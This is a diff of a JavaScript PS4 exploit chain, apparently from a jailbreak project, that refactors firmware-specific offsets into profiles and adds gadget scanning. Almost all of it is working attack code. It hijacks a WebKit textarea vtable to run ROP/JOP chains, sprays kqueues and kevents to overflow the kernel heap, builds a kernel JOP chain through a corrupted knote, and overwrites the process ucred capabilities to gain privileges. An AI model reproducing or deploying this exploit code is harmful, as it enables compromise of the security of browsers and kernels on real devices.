@@ -21,13 +21,25 @@ import { Int } from './module/int64.mjs';
 import { debug_log, align, die } from './module/utils.mjs';
 import { Addr, mem } from './module/mem.mjs';
 import { KB, MB } from './module/constants.mjs';
-import { ChainBase } from './module/chain.mjs';
+import { errno_map } from './module/syscalls.mjs';
+import { Chain803Base, jmp_buf_t } from './module/rop_chain.mjs';
+import { find_module } from './module/sprx.mjs';
+import { find_gadgets } from './module/gadgets.mjs';
+import { get_module_handle, dlsym } from './module/dynlib.mjs';
+import { get_profile, get_gadget_lists } from './module/profiles.mjs';
+
+import {
+    kjop1,
+    k2jop1,
+    stack_arg_gadgets,
+    libc_functions,
+} from './module/rop_gadgets.mjs';
 
 import {
     make_buffer,
-    find_base,
     get_view_vector,
-    resolve_import,
+    find_plt,
+    is_syscall_wrapper,
     init_syscall_array,
 } from './module/memtools.mjs';
 
@@ -44,468 +56,105 @@ const offset_func_exec = 0x18;
 const offset_textarea_impl = 0x18;
 const offset_js_inline_prop = 0x10;
 
-// WebKit offsets of imported functions
-const offset_wk_stack_chk_fail = 0x8d8;
-const offset_wk_strlen = 0x918;
-
-// libSceLibcInternal offsets
-const offset_libc_setjmp = 0x258f4;
-const offset_libc_longjmp = 0x29c58;
+// the firmware profile, see module/profiles.mjs and config.set_firmware()
+if (config.profile === null) {
+    throw RangeError('no firmware profile for this firmware');
+}
+const profile = get_profile(config.profile);
 
-// see the disassembly of setjmp() from the dump of libSceLibcInternal.sprx
-//
-// int setjmp(jmp_buf)
-// noreturn longjmp(jmp_buf)
-//
-// This version of longjmp() does not take another argument to be used as
-// setjmp()'s return value. Offset 0 of the jmp_buf will be the restored
-// rax. Change it if you want a specific value from setjmp() after the
-// longjmp().
-const jmp_buf_size = 0xc8;
 let setjmp_addr = null;
 let longjmp_addr = null;
 
+// ModuleInfos from find_module() of sprx.mjs
+
 // libSceNKWebKit.sprx
-let libwebkit_base = null;
+let libwebkit = null;
 // libkernel_web.sprx
-let libkernel_base = null;
+let libkernel = null;
 // libSceLibcInternal.sprx
-let libc_base = null;
-
-const kjop1 = `
-mov rdi, qword ptr [rdi]
-mov rax, qword ptr [rdi]
-jmp qword ptr [rax + 0xe0]
-`;
-const k2jop1 = `
-mov rdi, qword ptr [rsi + 8]
-mov rax, qword ptr [rdi]
-jmp qword ptr [rax + 0x70]
-`;
-// gadgets for the JOP chain
-//
-// Why these JOP chain gadgets are not named jop1-3 and jop2-5 not jop4-7 is
-// because jop1-5 was the original chain used by the old implementation of
-// Chain803. Now the sequence is ta_jop1-3 then to jop2-5.
-//
-// When the scrollLeft getter native function is called on PS4 8.03, rsi is the
-// JS wrapper for the WebCore textarea class.
-const ta_jop1 = `
-mov rdi, qword ptr [rsi + 0x18]
-mov rax, qword ptr [rdi]
-call qword ptr [rax + 0xb8]
-`;
-// Since the method of code redirection we used is via redirecting a call to
-// jump to our JOP chain, we have the return address of the caller on entry.
-//
-// ta_jop1 pushed another object (via the call instruction) but we want no
-// extra objects between the return address and the rbp that will be pushed by
-// jop2 later. So we pop the return address pushed by ta_jop1.
-//
-// This will make pivoting back easy, just "leave; ret".
-const ta_jop2 = `
-pop rsi
-jmp qword ptr [rax + 0x5f]
-`;
-const ta_jop3 = `
-mov rdi, qword ptr [rax + 8]
-mov rax, qword ptr [rdi]
-jmp qword ptr [rax + 0x68]
-`;
-// jop1 was previously used by the old implementation of Chain803, now unused
-const jop1 = `
-mov rdi, qword ptr [rdi + 0x30]
-mov rax, qword ptr [rdi]
-jmp qword ptr [rax + 8]
-`;
-// rbp is now pushed, any extra objects pushed by the call instructions can be
-// ignored
-const jop2 = `
-push rbp
-mov rbp, rsp
-mov rax, qword ptr [rdi]
-call qword ptr [rax + 0x30]
-`;
-const jop3 = `
-mov rdx, qword ptr [rax + 0x18]
-mov rax, qword ptr [rdi]
-call qword ptr [rax + 0x10]
-`;
-const jop4 = `
-push rdx
-mov edi, 0xac9784fe
-jmp qword ptr [rax]
-`;
-const jop5 = 'pop rsp; ret';
-
-// the ps4 firmware is compiled to use rbp as a frame pointer
-//
-// The JOP chain pushed rbp and moved rsp to rbp before the pivot. The chain
-// must save rbp (rsp before the pivot) somewhere if it uses it. The chain must
-// restore rbp (if needed) before the epilogue.
-//
-// The epilogue will move rbp to rsp (restore old rsp) and pop rbp (which we
-// pushed earlier before the pivot, thus restoring the old rbp).
-//
-// leave instruction equivalent:
-//     mov rsp, rbp
-//     pop rbp
-const rop_epilogue = 'leave; ret';
-
-const webkit_gadget_offsets = new Map(Object.entries({
-    'pop rax; ret' : 0x0000000000035a1b,
-    'pop rbx; ret' : 0x000000000001537c,
-    'pop rcx; ret' : 0x0000000000025ecb,
-    'pop rdx; ret' : 0x0000000000060f52,
-
-    'pop rbp; ret' : 0x00000000000000b6,
-    'pop rsi; ret' : 0x000000000003bd77,
-    'pop rdi; ret' : 0x00000000001e3f87,
-    'pop rsp; ret' : 0x00000000000bf669,
-
-    'pop r8; ret' : 0x0000000000097442,
-    'pop r9; ret' : 0x00000000006f501f,
-    'pop r10; ret' : 0x0000000000060f51,
-    'pop r11; ret' : 0x0000000000d2a629,
-
-    'pop r12; ret' : 0x0000000000d8968d,
-    'pop r13; ret' : 0x00000000016ccff1,
-    'pop r14; ret' : 0x000000000003bd76,
-    'pop r15; ret' : 0x00000000002499df,
-
-    'ret' : 0x0000000000000032,
-    'leave; ret' : 0x0000000000291fd7,
-    'leave; jmp rcx' : 0x000000000062a061,
-
-    'neg rax; and rax, rcx; ret' : 0x0000000000e85f24,
-    'adc esi, esi; ret' : 0x000000000088cbb9,
-    'add rax, rdx; ret' : 0x00000000003cd92c,
-    'push rsp; jmp qword ptr [rax]' : 0x0000000001abbc92,
-    'add rcx, rsi; and rdx, rcx; or rax, rdx; ret' : 0x0000000000b8bc06,
-    'pop rdi; jmp qword ptr [rax + 0x50]' : 0x00000000021f9e8e,
-    'add rax, 8; ret': 0x0000000000468988,
-
-    'mov qword ptr [rdi], rsi; ret' : 0x0000000000034a40,
-    'mov rax, qword ptr [rax]; ret' : 0x000000000002dc62,
-    'mov qword ptr [rdi], rax; ret' : 0x000000000005b1bb,
-    'mov dword ptr [rdi], eax; ret' : 0x000000000001f864,
-    'mov rdx, rcx; ret' : 0x0000000000eae9fd,
-    'mov qword ptr [rdx], rax; mov al, 1; ret' : 0x00000000000b6dcf,
-    'mov rdx, qword ptr [rcx]; ret' : 0x0000000000182bc4,
-
-    'cli; jmp qword ptr [rax + 0x43]' : 0x0000000002163442,
-    'sti; ret' : 0x00000000004b94c8,
-    'xchg rbp, rax; ret' : 0x000000000218ef60,
-
-    [kjop1] : 0x00000000010da705,
-    [k2jop1] : 0x0000000001988320,
-
-    [jop1] : 0x000000000028a8d0,
-    [jop2] : 0x000000000076b970,
-    [jop3] : 0x0000000000202698,
-    [jop4] : 0x00000000021af6ad,
-
-    [ta_jop1] : 0x00000000005efb14,
-    [ta_jop2] : 0x0000000002198221,
-    [ta_jop3] : 0x00000000014ff7a2,
-}));
-
-const libc_gadget_offsets = new Map(Object.entries({
-    'neg rax; ret' : 0x00000000000d3503,
-    'mov rdx, rax; xor eax, eax; shl rdx, cl; ret' : 0x00000000000ce436,
-    'mov qword ptr [rsi], rcx; ret' : 0x00000000000cede2,
-    'setjmp' : offset_libc_setjmp,
-    'longjmp' : offset_libc_longjmp,
-}));
+let libc = null;
 
 const gadgets = new Map();
 
-function get_bases() {
+// Returns the ModuleInfos of libwebkit and libkernel. libkernel is found
+// through an import of a syscall wrapper in the PLT of libwebkit.
+function get_modules() {
     const textarea = document.createElement('textarea');
     const webcore_textarea = mem.addrof(textarea).readp(offset_textarea_impl);
     const textarea_vtable = webcore_textarea.readp(0);
-    const libwebkit_base = find_base(textarea_vtable, true, true);
-
-    const stack_chk_fail_import =
-        libwebkit_base
-        .add(offset_wk_stack_chk_fail)
-    ;
-    const stack_chk_fail_addr = resolve_import(
-        stack_chk_fail_import,
-        true,
-        true
+    const libwebkit = find_module(textarea_vtable);
+    debug_log(`libwebkit: ${libwebkit}`);
+
+    const text = libwebkit.text;
+    const imports = find_plt(text.start, text.end.sub(text.start).low());
+    debug_log(`libwebkit PLT: ${imports[0].addr}, ${imports.length} stubs`);
+    // imports that were not called yet jump back into the PLT
+    const wrapper = imports.find(
+        imp => !libwebkit.contains(imp.target) && is_syscall_wrapper(imp.target)
     );
-    const libkernel_base = find_base(stack_chk_fail_addr, true, true);
-
-    const strlen_import = libwebkit_base.add(offset_wk_strlen);
-    const strlen_addr = resolve_import(strlen_import, true, true);
-    const libc_base = find_base(strlen_addr, true, true);
+    if (wrapper === undefined) {
+        die('no import of a syscall wrapper in libwebkit');
+    }
+    const libkernel = find_module(wrapper.target);
+    debug_log(`libkernel: ${libkernel}`);
 
-    return [
-        libwebkit_base,
-        libkernel_base,
-        libc_base,
-    ];
+    return [libwebkit, libkernel];
 }
 
-function init_gadget_map(gadget_map, offset_map, base_addr) {
-    for (const [insn, offset] of offset_map) {
-        gadget_map.set(insn, base_addr.add(offset));
+// Adds the functions of libc_functions to the gadget map and returns the
+// ModuleInfo of libc. chain only needs to make syscalls.
+function get_libc(chain) {
+    const handle = get_module_handle(chain, 'libSceLibcInternal.sprx');
+    for (const name of libc_functions) {
+        const addr = dlsym(chain, handle, name);
+        debug_log(`${name}: ${addr}`);
+        gadgets.set(name, addr);
     }
+    const libc = find_module(gadgets.get(libc_functions[0]));
+    debug_log(`libc: ${libc}`);
+    return libc;
 }
 
-class Chain803Base extends ChainBase {
-    constructor() {
-        super();
-
-        // for conditional jumps
-        this._clean_branch_ctx();
-        this.flag = new Uint8Array(8);
-        this.flag_addr = get_view_vector(this.flag);
-        this.jmp_target = new Uint8Array(0x100);
-        rw.write64(this.jmp_target, 0x50, this.get_gadget(jop4));
-        rw.write64(this.jmp_target, 0, this.get_gadget(jop5));
-
-        // for save/restore
-        this.is_saved = false;
-        const jmp_buf_size = 0xc8;
-        this.jmp_buf = new Uint8Array(jmp_buf_size);
-        this.jmp_buf_p = get_view_vector(this.jmp_buf);
-    }
-
-    push_write64(addr, value) {
-        this.push_gadget('pop rdi; ret');
-        this.push_value(addr);
-        this.push_gadget('pop rsi; ret');
-        this.push_value(value);
-        this.push_gadget('mov qword ptr [rdi], rsi; ret');
-    }
-
-    // sequence to pivot back and return
-    push_end() {
-        this.push_gadget(rop_epilogue);
-    }
-
-    check_is_branching() {
-        if (this.is_branch_ctx) {
-            throw Error('chain is still branching, end it before running');
-        }
-    }
+// Set this to false to always scan for the gadgets instead of trying the
+// offsets from the tables of the profile first.
+const use_static_offsets = true;
 
-    push_value(value) {
-        super.push_value(value);
-
-        if (this.is_branch_ctx) {
-            this.branch_position += 8;
-        }
-    }
-
-    _clean_branch_ctx() {
-        this.is_branch_ctx = false;
-        this.branch_position = null;
-        this.delta_slot = null;
-        this.rsp_slot = null;
-        this.rsp_position = null;
-    }
-
-    clean() {
-        super.clean();
-        this._clean_branch_ctx();
-        this.is_saved = false;
-    }
-
-    // Use start_branch() and end_branch() to delimit a ROP chain that will
-    // conditionally execute. rax must be set accordingly before the branch.
-    // rax == 0 means execute the conditional chain.
-    //
-    // example that always execute the conditional chain:
-    //     chain.push_gadget('mov rax, 0; ret');
-    //     chain.start_branch();
-    //     chain.push_gadget('pop rbx; ret'); // always executed
-    //     chain.end_branch();
-    start_branch() {
-        if (this.is_branch_ctx) {
-            throw Error('chain already branching, end it first');
-        }
-
-        // clobbers rax, rcx, rdi, rsi
-        //
-        // u64 flag = 0 if -rax == 0 else 1
-        // *flag_addr = flag
-        this.push_gadget('pop rcx; ret');
-        this.push_constant(-1);
-        this.push_gadget('neg rax; ret');
-        this.push_gadget('pop rsi; ret');
-        this.push_constant(0);
-        this.push_gadget('adc esi, esi; ret');
-        this.push_gadget('pop rdi; ret');
-        this.push_value(this.flag_addr);
-        this.push_gadget('mov qword ptr [rdi], rsi; ret');
-
-        // clobbers rax, rcx, rdi
-        //
-        // rax = *flag_addr
-        // rcx = delta
-        // rax = -rax & rcx
-        // *flag_addr = rax
-        this.push_gadget('pop rax; ret');
-        this.push_value(this.flag_addr);
-        this.push_gadget('mov rax, qword ptr [rax]; ret');
-
-        // dummy value, overwritten later by end_branch()
-        this.push_gadget('pop rcx; ret');
-        this.delta_slot = this.position;
-        this.push_constant(0);
-
-        this.push_gadget('neg rax; and rax, rcx; ret');
-        this.push_gadget('pop rdi; ret');
-        this.push_value(this.flag_addr);
-        this.push_gadget('mov qword ptr [rdi], rax; ret');
-
-        // clobbers rax, rcx, rdx, rsi
-        //
-        // rcx = rsp_position
-        // rsi = rsp
-        // rcx += rsi
-        // rdx = rcx
-        //
-        // dummy value, overwritten later at the end of start_branch()
-        this.push_gadget('pop rcx; ret');
-        this.rsp_slot = this.position;
-        this.push_constant(0);
-
-        this.push_gadget('pop rsi; ret');
-        this.push_value(this.stack_addr.add(this.position + 8));
-
-        // rsp collected here, start counting how much to perturb rsp
-        this.branch_position = 0;
-        this.is_branch_ctx = true;
-
-        this.push_gadget('add rcx, rsi; and rdx, rcx; or rax, rdx; ret');
-        this.push_gadget('mov rdx, rcx; ret');
-
-        // clobbers rax
-        //
-        // rax = *flag_addr
-        this.push_gadget('pop rax; ret');
-        this.push_value(this.flag_addr);
-        this.push_gadget('mov rax, qword ptr [rax]; ret');
-
-        // clobbers rax
-        //
-        // rax += rdx
-        // new_rsp = rax
-        this.push_gadget('add rax, rdx; ret');
-
-        // clobbers rdi
-        //
-        // for debugging, save new_rsp to flag_addr so we can verify it later
-        this.push_gadget('pop rdi; ret');
-        this.push_value(this.flag_addr);
-        this.push_gadget('mov qword ptr [rdi], rax; ret');
-
-        // clobbers rdx, rcx
-        //
-        // rdx = rax
-        this.push_gadget('pop rcx; ret');
-        this.push_constant(0);
-        this.push_gadget('mov rdx, rax; xor eax, eax; shl rdx, cl; ret');
-
-        // clobbers rax, rdx, rdi, rsp
-        //
-        // rsp = rdx
-        this.push_gadget('pop rax; ret');
-        this.push_value(get_view_vector(this.jmp_target));
-        this.push_gadget('pop rdi; jmp qword ptr [rax + 0x50]');
-        this.push_constant(0); // padding for the push
-
-        this.rsp_position = this.branch_position;
-        rw.write64(this.stack, this.rsp_slot, new Int(this.rsp_position));
-    }
-
-    end_branch() {
-        if (!this.is_branch_ctx) {
-            throw Error('can not end nonbranching chain');
-        }
-
-        const delta = this.branch_position - this.rsp_position;
-        rw.write64(this.stack, this.delta_slot, new Int(delta));
-        this._clean_branch_ctx();
-    }
-
-    // clobbers rax, rdi, rsi
-    push_save() {
-        if (this.is_saved) {
-            throw Error('restore first before saving again');
-        }
-        this.push_call(this.get_gadget('setjmp'), this.jmp_buf_p);
-        this.is_saved = true;
-    }
-
-    // Force a push_restore() if at runtime you can ensure the save/restore
-    // pair line up.
-    push_restore(is_force=false) {
-        if (!this.is_saved && !is_force) {
-            throw Error('save first before restoring');
-        }
-        // modify jmp_buf.rsp
-        this.push_gadget('pop rax; ret');
-        const rsp_slot = this.position;
-        // dummy value, overwritten later at the end of push_restore()
-        this.push_constant(0);
-        this.push_gadget('pop rdi; ret');
-        this.push_value(this.jmp_buf_p.add(0x38));
-        this.push_gadget('mov qword ptr [rdi], rax; ret');
-
-        // modify jmp_buf.return_address
-        this.push_gadget('pop rax; ret');
-        this.push_value(this.get_gadget('ret'));
-        this.push_gadget('pop rdi; ret');
-        this.push_value(this.jmp_buf_p.add(0x80));
-        this.push_gadget('mov qword ptr [rdi], rax; ret');
-
-        this.push_call(this.get_gadget('longjmp'), this.jmp_buf_p);
-
-        // Padding as longjmp() pushes the rdi and return address in the
-        // jmp_buf at the target rsp.
-        this.push_constant(0);
-        this.push_constant(0);
-        const target_rsp = this.stack_addr.add(this.position);
-
-        rw.write64(this.stack, rsp_slot, target_rsp);
-        this.is_saved = false;
-    }
-
-    push_get_retval() {
-        this.push_gadget('pop rdi; ret');
-        this.push_value(this.retval_addr);
-        this.push_gadget('mov qword ptr [rdi], rax; ret');
-    }
-
-    call(...args) {
-        if (this.position !== 0) {
-            throw Error('call() needs an empty chain');
-        }
-        this.push_call(...args);
-        this.push_get_retval();
-        this.push_end();
-        this.run();
-        this.clean();
-    }
-
-    syscall(...args) {
-        if (this.position !== 0) {
-            throw Error('syscall() needs an empty chain');
-        }
-        this.push_syscall(...args);
-        this.push_get_retval();
-        this.push_end();
-        this.run();
-        this.clean();
+// Adds the gadgets of gadget_list to gadget_map. The offsets from offset_map
+// are checked against the .text of module and any gadget that doesn't match
+// or is not in offset_map is searched for instead. The search results are
+// cached per firmware, so the tables are optional. tools/gen_gadgets.mjs
+// generates them from a dump of the module.
+//
+// Missing gadgets are fatal unless optional is true.
+function init_gadget_map(
+    gadget_map,
+    gadget_list,
+    offset_map,
+    module,
+    name,
+    optional=false,
+) {
+    const static_offsets = use_static_offsets ? offset_map : new Map();
+    const options = {
+        static_offsets,
+        cache_key: `${profile.id}:${name}`,
+    };
+    const text = module.text;
+    const missing = find_gadgets(
+        gadget_map,
+        text.start,
+        text.end.sub(text.start).low(),
+        gadget_list,
+        options,
+    );
+    if (missing.length !== 0 && !optional) {
+        die(`gadgets not found in ${name}:\n${missing.join('\n')}`);
     }
 }
 
-// Chain for PS4 8.03
+// Chain for every firmware, named after PS4 8.03, the original target. The
+// JOP chain that starts it is described by the profile, see
+// Chain803Base.make_vtable().
 class Chain803 extends Chain803Base {
     constructor() {
         super();
@@ -515,49 +164,15 @@ class Chain803 extends Chain803Base {
         const js_ta = mem.addrof(textarea);
         const webcore_ta = js_ta.readp(0x18);
         this.webcore_ta = webcore_ta;
-        // Only offset 0x1c8 will be used when calling the scrollLeft getter
-        // native function (our tests don't crash).
-        //
-        // This implies we don't need to know the exact size of the vtable and
-        // try to copy it as much as possible to avoid a crash due to missing
-        // vtable entries.
-        //
-        // So the rest of the vtable are free for our use.
-        const vtable = new Uint8Array(0x200);
-        const old_vtable_p = webcore_ta.readp(0);
-        this.vtable = vtable;
-        this.old_vtable_p = old_vtable_p;
-
-        // 0x1c8 is the offset of the scrollLeft getter native function
-        rw.write64(vtable, 0x1c8, this.get_gadget(ta_jop1));
-        rw.write64(vtable, 0xb8, this.get_gadget(ta_jop2));
-        rw.write64(vtable, 0x5f, this.get_gadget(ta_jop3));
-
-        // for the JOP chain
-        const rax_ptrs = new Uint8Array(0x100);
-        const rax_ptrs_p = get_view_vector(rax_ptrs);
-        this.rax_ptrs = rax_ptrs;
-
-        rw.write64(rax_ptrs, 0x68, this.get_gadget(jop2));
-        rw.write64(rax_ptrs, 0x30, this.get_gadget(jop3));
-        rw.write64(rax_ptrs, 0x10, this.get_gadget(jop4));
-        rw.write64(rax_ptrs, 0, this.get_gadget(jop5));
-        // value to pivot rsp to
-        rw.write64(this.rax_ptrs, 0x18, this.stack_addr);
-
-        const jop_buffer = new Uint8Array(8);
-        const jop_buffer_p = get_view_vector(jop_buffer);
-        this.jop_buffer = jop_buffer;
-
-        rw.write64(jop_buffer, 0, rax_ptrs_p);
-
-        rw.write64(vtable, 8, jop_buffer_p);
+        this.vtable = this.make_vtable();
+        this.old_vtable_p = webcore_ta.readp(0);
     }
 
     run() {
         this.check_stale();
         this.check_is_empty();
         this.check_is_branching();
+        this.resolve_labels();
 
         // change vtable
         this.webcore_ta.write64(0, get_view_vector(this.vtable));
@@ -570,18 +185,45 @@ class Chain803 extends Chain803Base {
 const Chain = Chain803;
 
 function init(Chain) {
-    [libwebkit_base, libkernel_base, libc_base] = get_bases();
-
-    init_gadget_map(gadgets, webkit_gadget_offsets, libwebkit_base);
-    init_gadget_map(gadgets, libc_gadget_offsets, libc_base);
-    init_syscall_array(syscall_array, libkernel_base, 300 * KB);
+    [libwebkit, libkernel] = get_modules();
+
+    debug_log(`firmware profile: ${profile.name}`);
+    const lists = get_gadget_lists(profile);
+    init_gadget_map(
+        gadgets,
+        lists.webkit,
+        profile.webkit_gadget_offsets,
+        libwebkit,
+        'libwebkit',
+    );
+    init_syscall_array(syscall_array, libkernel.base, 300 * KB);
     debug_log('syscall_array:');
     debug_log(syscall_array);
-    Chain.init_class(gadgets, syscall_array);
+    // The chains can make syscalls with the gadgets of libwebkit. The ones
+    // from libc are added to the same map after.
+    Chain.init_class(gadgets, syscall_array, profile);
+
+    libc = get_libc(new Chain());
+    init_gadget_map(
+        gadgets,
+        lists.libc,
+        profile.libc_gadget_offsets,
+        libc,
+        'libc',
+    );
+    // for calls with more than 6 arguments
+    init_gadget_map(
+        gadgets,
+        stack_arg_gadgets,
+        new Map(),
+        libc,
+        'libc',
+        true,
+    );
 }
 
 function test_rop(Chain) {
-    const jmp_buf = new Uint8Array(jmp_buf_size);
+    const jmp_buf = new Uint8Array(profile.jmp_buf_size);
     const jmp_buf_p = get_view_vector(jmp_buf);
 
     init(Chain);
@@ -605,6 +247,7 @@ function test_rop(Chain) {
 
     debug_log(`endif chain addr: ${chain.stack_addr.add(chain.position)}`);
     chain.push_end();
+    debug_log(chain.dump());
 
     // The ROP chain is a noop. If we crashed, then we did something wrong.
     alert('chain run');
@@ -693,6 +336,36 @@ function test_rop(Chain) {
     if (chain.return_value.low() === magic) {
         die('syscall getuid failed');
     }
+
+    debug_log('test loop()');
+    chain.clean();
+    const count = new Uint8Array(8);
+    const count_p = get_view_vector(count);
+
+    // calls on the call stack and a sub-chain
+    chain.start_subchain('increment');
+    chain.push_gadget('pop rax; ret');
+    chain.push_value(count_p);
+    chain.push_gadget('mov rax, qword ptr [rax]; ret');
+    chain.push_gadget('pop rdx; ret');
+    chain.push_constant(1);
+    chain.push_gadget('add rax, rdx; ret');
+    chain.push_gadget('pop rdi; ret');
+    chain.push_value(count_p);
+    chain.push_gadget('mov qword ptr [rdi], rax; ret');
+    chain.end_subchain();
+
+    chain.loop(5, () => {
+        chain.push_syscall('getuid');
+        chain.push_call_subchain('increment');
+    });
+    chain.push_end();
+
+    chain.run();
+    debug_log(`count must be 5: ${count}`);
+    if (count[0] !== 5) {
+        die('loop() count mismatch');
+    }
 }
 
 function mlock_gadgets(gadgets) {
@@ -746,37 +419,41 @@ function prepare_knote(kchain) {
     const jop_buffer = knote.add(0x8000);
     const rax_ptrs = knote.add(0xc000);
 
-    const offset_kn_fop = 0x68;
-    knote.write64(0, jop_buffer);
-    knote.write64(offset_kn_fop, filterops);
+    const {knote_t, filterops_t} = profile.kernel.structs;
+    const kn = knote_t.at(knote);
+    kn.kn_link = jop_buffer;
+    kn.kn_fop = filterops;
 
-    const offset_f_detach = 0x10;
-    filterops.write64(offset_f_detach, kchain.get_gadget(kjop1));
+    filterops_t.at(filterops).f_detach = kchain.get_gadget(kjop1);
 
     jop_buffer.write64(0, rax_ptrs);
 
-    // for the kernel JOP chain
-    rax_ptrs.write64(0xe0, kchain.get_gadget(jop2));
-    rax_ptrs.write64(0x30, kchain.get_gadget(jop3));
-    rax_ptrs.write64(0x10, kchain.get_gadget(jop4));
+    // for the kernel JOP chain, it starts at jop2 like the one of Chain803
+    const {jop, rax_ptrs: ptrs} = profile;
+    rax_ptrs.write64(0xe0, kchain.get_gadget(jop.jop2));
+    rax_ptrs.write64(ptrs.jop3, kchain.get_gadget(jop.jop3));
+    rax_ptrs.write64(ptrs.jop4, kchain.get_gadget(jop.jop4));
     // We need to cli before the pivot (to a user mode rsp) and to sti after
     // the back pivot (the system needs to handle interrupts after all).
     //
     // Since TODO, a pseudo-SMAP mitigation has been employed. The thread
     // scheduler checks if a kernel thread has its stack pointer changed to a
     // user mode address.
-    rax_ptrs.write64(0, kchain.get_gadget('cli; jmp qword ptr [rax + 0x43]'));
-    rax_ptrs.write64(0x43, kchain.get_gadget(jop5));
+    rax_ptrs.write64(
+        ptrs.jop5,
+        kchain.get_gadget('cli; jmp qword ptr [rax + 0x43]'),
+    );
+    rax_ptrs.write64(0x43, kchain.get_gadget(jop.jop5));
     // value to pivot rsp to
-    rax_ptrs.write64(0x18, kchain.stack_addr);
+    rax_ptrs.write64(ptrs.rsp, kchain.stack_addr);
 
     // * there are 2 calls to f_detach() in kqueue_close()
     // * offset relative to the return address of the first f_detach()
     // * epi = address of the epilogue of kqueue_close()
     // kqueue_close() epilogue
-    const offset_kqueue_close_epi = 689;
+    const offset_kqueue_close_epi = profile.kernel.kqueue_close_epi;
     // offset relative to epi
-    const offset_socketops = 0x179f39f;
+    const offset_socketops = profile.kernel.socketops;
 
     // get kernel stack pointer
     kchain.push_gadget('xchg rbp, rax; ret');
@@ -849,15 +526,32 @@ function trigger_oob(kchain) {
     const chain = new Chain();
 
     const num_kqueue = 0x1b0;
-    const kqueues = new Uint32Array(num_kqueue);
+    // one more for the upper half of the last 64-bit store
+    const kqueues = new Uint32Array(num_kqueue + 1);
     const kqueues_p = get_view_vector(kqueues);
+    // where to store the next descriptor
+    const kqueue_ptr = new Uint8Array(8);
+    const kqueue_ptr_p = get_view_vector(kqueue_ptr);
 
-    for (let i = 0; i < num_kqueue; i++) {
+    chain.push_write64(kqueue_ptr_p, kqueues_p);
+    chain.loop(num_kqueue, () => {
         chain.push_syscall('kqueue');
+        // **kqueue_ptr_p = rax
+        chain.push_gadget('pop rcx; ret');
+        chain.push_value(kqueue_ptr_p);
+        chain.push_gadget('mov rdx, qword ptr [rcx]; ret');
+        chain.push_gadget('mov qword ptr [rdx], rax; mov al, 1; ret');
+        // *kqueue_ptr_p += 4
+        chain.push_gadget('pop rax; ret');
+        chain.push_value(kqueue_ptr_p);
+        chain.push_gadget('mov rax, qword ptr [rax]; ret');
+        chain.push_gadget('pop rdx; ret');
+        chain.push_constant(4);
+        chain.push_gadget('add rax, rdx; ret');
         chain.push_gadget('pop rdi; ret');
-        chain.push_value(kqueues_p.add(i * 4));
-        chain.push_gadget('mov dword ptr [rdi], eax; ret');
-    }
+        chain.push_value(kqueue_ptr_p);
+        chain.push_gadget('mov qword ptr [rdi], rax; ret');
+    });
     chain.push_end();
     chain.run();
     chain.clean();
@@ -882,14 +576,14 @@ function trigger_oob(kchain) {
     debug_log(`socket descriptor: ${sd}`);
 
     // spray kevents
-    const kevent = new Uint8Array(0x20);
-    const kevent_p = get_view_vector(kevent);
-    kevent_p.write64(0, sd);
-    // EV_ADD and EVFILT_READ
-    kevent_p.write32(0x8, 0x1ffff);
-    kevent_p.write32(0xc, 0);
-    kevent_p.write64(0x10, Int.Zero);
-    kevent_p.write64(0x18, Int.Zero);
+    const EVFILT_READ = -1;
+    const EV_ADD = 1;
+    const {kevent_t} = profile.kernel.structs;
+    const kevent = kevent_t.alloc();
+    const kevent_p = get_view_vector(kevent.view);
+    kevent.ident = sd;
+    kevent.filter = EVFILT_READ;
+    kevent.flags = EV_ADD;
 
     for (let i = 0; i < num_kqueue; i++) {
         // nchanges == 1, everything else is NULL/0
@@ -922,7 +616,7 @@ function trigger_oob(kchain) {
     debug_log(`kchain retval: ${kretval}`);
     debug_log(kchain.jmp_buf);
     debug_log(new Addr(0x4000).read64(0));
-    if (kretval.low() === 0 && kretval.high() === 0) {
+    if (kretval.eq(0)) {
         die('heap overflow failed');
     }
     debug_log('kernel ROP chain ran successfully');
@@ -934,9 +628,10 @@ function trigger_oob(kchain) {
 
 function get_ucred_addr(kchain, sd, mmap_area) {
     const chain = new Chain();
-    const offset_jmp_buf_rcx = 0x10;
-    const offset_thread_td_proc = 8;
-    const offset_proc_p_ucred = 0x40;
+    const {thread_t, proc_t} = profile.kernel.structs;
+    const offset_jmp_buf_rcx = jmp_buf_t.offsetof('rcx');
+    const offset_thread_td_proc = thread_t.offsetof('td_proc');
+    const offset_proc_p_ucred = proc_t.offsetof('p_ucred');
 
     // we enter fo_chmod with rcx containing "struct thread td" argument
     kchain.push_save();
@@ -965,7 +660,7 @@ function get_ucred_addr(kchain, sd, mmap_area) {
 
     // return EINVAL so that fchmod() doesn't think we are actually changing
     // the mode of the socket
-    const EINVAL = 22;
+    const EINVAL = errno_map.get('EINVAL');
     kchain.push_gadget('pop rax; ret');
     kchain.push_constant(EINVAL);
 
@@ -973,8 +668,8 @@ function get_ucred_addr(kchain, sd, mmap_area) {
     kchain.push_value(kchain.get_gadget('sti; ret'));
     kchain.push_gadget('leave; jmp rcx');
 
-    chain.syscall('fchmod', sd, mmap_area);
-    debug_log(`fchmod(): ${chain.return_value}`);
+    const res = chain.syscall('fchmod', sd, mmap_area);
+    debug_log(`fchmod(): ${res.value.toDecimal(true)} ${res.errno}`);
     kchain.clean();
 
     return kchain.return_value;
@@ -982,22 +677,22 @@ function get_ucred_addr(kchain, sd, mmap_area) {
 
 function get_jit_capabilities(kchain, sd, mmap_area, ucred_addr) {
     const chain = new Chain();
-    // struct ucred has been customized for the ps4
-    // see TODO for definition
     const p_ucred = ucred_addr;
+    const {ucred_t} = profile.kernel.structs;
+    const offset_cr_sceCaps = ucred_t.offsetof('cr_sceCaps');
 
     kchain.push_save();
 
     // cr_sceCaps[0]
-    kchain.push_write64(p_ucred.add(0x60), new Int(-1));
+    kchain.push_write64(p_ucred.add(offset_cr_sceCaps), new Int(-1));
     // cr_sceCaps[1]
-    kchain.push_write64(p_ucred.add(0x68), new Int(-1));
+    kchain.push_write64(p_ucred.add(offset_cr_sceCaps + 8), new Int(-1));
 
     kchain.push_restore();
 
     // return EINVAL so that fchmod() doesn't think we are actually changing
     // the mode of the socket
-    const EINVAL = 22;
+    const EINVAL = errno_map.get('EINVAL');
     kchain.push_gadget('pop rax; ret');
     kchain.push_constant(EINVAL);
 
@@ -1090,13 +785,13 @@ function kexploit() {
     const [sd, kretval] = trigger_oob(kchain);
 
     // offset relative to kernel base
-    const offset_k_socketops_fo_chmod = 0x1a76060;
+    const offset_k_socketops_fo_chmod = profile.kernel.socketops_fo_chmod;
     const kbase = kretval.sub(offset_k_socketops_fo_chmod);
     debug_log(`kbase: ${kbase}`);
